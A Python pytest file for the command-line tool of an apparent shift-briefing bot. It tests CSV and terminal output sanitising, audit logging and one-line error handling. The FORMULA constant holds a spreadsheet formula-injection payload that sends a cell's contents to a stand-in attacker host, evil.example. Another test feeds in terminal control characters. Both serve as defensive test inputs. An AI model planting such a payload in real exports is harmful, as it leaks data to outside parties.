"""What officers typed reaches a terminal or a spreadsheet as text, never as something that runs; the
CLI's own actions are audited under the operating-system user; absurd values are one-line errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot import cli
from bot.store import Store
from tests.conftest import FakeClock, write_config

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SHIFTBRIEF_CONFIG", str(write_config(tmp_path)))
    monkeypatch.setenv("SHIFTBRIEF_DB", str(tmp_path / "sb.db"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def seed_officer(home: Path, name: str) -> None:
    store = Store.open(home / "sb.db", FakeClock()())
    try:
        when = FakeClock()()
        delivery = store.create_delivery(card_id="c", card_version=1, topic="what-is-hsp", team_id="response-a",
                                         channel="local:response-a", reason="cli", posted_by=None, now=when)
        assert delivery is not None
        store.add_recipients(delivery.id, [("local:pc-1", name)], when)
        store.mark_posted(delivery.id, None, when)
    finally:
        store.close()


def test_a_name_that_is_a_formula_reaches_the_csv_as_text(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    seed_officer(home, FORMULA)
    assert cli.main(["stats", "--by", "officer", "--csv", "--names"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["name"] == "'" + FORMULA


def test_control_characters_in_a_question_never_reach_the_terminal(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = Store.open(home / "sb.db", FakeClock()())
    try:
        store.record_question(asked_by="local:pc-1", via="local", text="hi \x1b[31mred\x07\x00 there", answered=False,
                              card_id=None, topic=None, score=0.0, now=FakeClock()())
    finally:
        store.close()
    assert cli.main(["questions"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x00" not in out
    assert "red" in out


def test_cli_actions_are_audited_under_the_operating_system_user(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli.getpass, "getuser", lambda: "jsmith")
    assert cli.main(["db", "purge", "--older-than", "30"]) == 0
    capsys.readouterr()
    assert cli.main(["audit", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert rows[0]["actor"] == "system:cli:jsmith" and rows[0]["action"] == "purge"


@pytest.mark.parametrize("days", ["0", "99999999999", "-5"])
def test_an_absurd_purge_age_is_one_line_and_changes_nothing(
    home: Path, capsys: pytest.CaptureFixture[str], days: str
) -> None:
    assert cli.main(["db", "purge", "--older-than", days]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--older-than must be from 1 to 36500 days" in err[0]


def test_a_backup_to_a_place_that_cannot_be_written_is_one_line(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed_officer(home, "PC One")
    assert cli.main(["db", "backup", "/proc/shiftbrief-backup.db"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "shiftbrief-backup.db" in err[0] and "Traceback" not in err[0]


def test_a_damaged_database_is_one_line_naming_it(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "sb.db").write_bytes(b"not a database at all" * 200)
    assert cli.main(["stats", "--json"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "sb.db" in err[0]


def test_the_audit_trail_can_start_at_a_date(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from datetime import timedelta

    store = Store.open(home / "sb.db", FakeClock()())
    try:
        store.audit("local:sgt-a", "view-pending", "response-a", "old", FakeClock()() - timedelta(days=40))
        store.audit("local:sgt-a", "view-pending", "response-a", "new", FakeClock()())
    finally:
        store.close()
    assert cli.main(["audit", "--since", FakeClock()().date().isoformat(), "--json"]) == 0
    details = [row["detail"] for row in json.loads(capsys.readouterr().out)["rows"]]
    assert "new" in details and "old" not in details
    assert cli.main(["audit", "--since", "last week"]) == 1
    assert "not a date" in capsys.readouterr().err


def test_demo_seed_twice_does_not_double_and_demo_clear_leaves_real_records(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed_officer(home, "PC One")  # a real delivery
    assert cli.main(["demo", "seed", "--weeks", "2"]) == 0
    assert cli.main(["stats", "--json"]) == 0
    capsys.readouterr()
    assert cli.main(["demo", "seed", "--weeks", "2"]) == 0
    capsys.readouterr()
    assert cli.main(["stats", "--json"]) == 0
    once = json.loads(capsys.readouterr().out)["rows"]
    assert cli.main(["demo", "seed", "--weeks", "2"]) == 0
    capsys.readouterr()
    assert cli.main(["stats", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rows"] == once
    assert cli.main(["demo", "clear"]) == 0
    assert "removed" in capsys.readouterr().out
    assert cli.main(["stats", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert [(r["team"], r["deliveries"]) for r in rows] == [("response-a", 1)]
